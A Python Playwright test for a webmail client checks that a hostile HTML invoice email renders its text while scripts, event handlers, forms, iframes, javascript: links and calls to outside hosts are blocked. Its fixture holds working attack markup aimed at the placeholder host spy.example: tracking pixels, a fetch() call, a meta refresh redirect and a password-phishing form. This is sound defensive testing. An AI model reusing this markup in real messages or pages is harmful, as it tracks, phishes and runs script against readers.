"""A hostile HTML mail in a real browser: its words are shown, nothing of it runs, and nobody outside hears that it was read."""

from __future__ import annotations

import re
import smtplib
import time
from email.message import EmailMessage

from playwright.sync_api import Page, Request, expect

from tests.browser.conftest import Desk, sign_in

SPY = "https://spy.example/pixel.png"
HOSTILE = f"""<html><head><meta http-equiv="refresh" content="0;url=https://spy.example/away">
<link rel="stylesheet" href="https://spy.example/sheet.css"><style>@import url(https://spy.example/more.css);</style>
<script>parent.document.title = "taken"; fetch("https://spy.example/script")</script></head>
<body onload="parent.document.title='taken'" background="{SPY}"><h1>Invoice overdue</h1>
<img src="{SPY}" onerror="parent.document.title='taken'"><div style="background:url({SPY})">Please pay</div>
<a href="javascript:parent.document.title='taken'">Pay now</a><a href="https://shop.example/invoice">See it</a>
<form action="https://spy.example/form"><input name="password"><button>Sign in</button></form>
<iframe src="https://spy.example/frame"></iframe><svg onload="parent.document.title='taken'"></svg></body></html>"""


def test_a_hostile_mail_is_read_and_nothing_of_it_runs(page: Page, desk: Desk) -> None:
    outside: list[str] = []
    page.context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.fulfill(status=200, body=""))
    page.on("request", lambda request: heard(request, outside))
    about = f"Invoice overdue {time.time_ns() % 1_000_000}"
    sign_in(page, "Ana Kovač")
    page.goto("/inbox")
    send(desk, about)
    page.get_by_role("link", name=re.compile(about)).click()

    page.get_by_role("button", name="About this message").first.click()
    page.get_by_role("link", name=re.compile("as it was sent|original", re.I)).first.click()

    frame = page.frame_locator(".original iframe")
    expect(frame.locator("h1")).to_have_text("Invoice overdue")
    expect(frame.locator("div")).to_have_text("Please pay")
    assert frame.locator("script, form, input, iframe, svg, link, [onload], [onerror]").count() == 0
    assert frame.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))") == [
        None,
        "https://shop.example/invoice",
    ]
    assert "taken" not in page.title() and outside == []

    page.locator("[data-pictures]").click()
    expect(frame.locator("img")).to_have_attribute("src", SPY)
    assert set(outside) <= {SPY} and "taken" not in page.title()


def heard(request: Request, outside: list[str]) -> None:
    if not request.url.startswith(("http://127.0.0.1", "data:", "blob:", "about:")):
        outside.append(request.url)


def send(desk: Desk, about: str) -> None:
    letter = EmailMessage()
    letter["From"], letter["To"], letter["Subject"] = (
        "Mina Okafor <mina@harbourlane.example>",
        "desk@lantern.example",
        about,
    )
    letter["Message-ID"] = f"<{time.time_ns()}@browser.example>"
    letter.set_content("Please pay")
    letter.add_alternative(HOSTILE, subtype="html")
    with smtplib.SMTP("127.0.0.1", desk.mail_port, timeout=10) as server:
        server.send_message(letter)
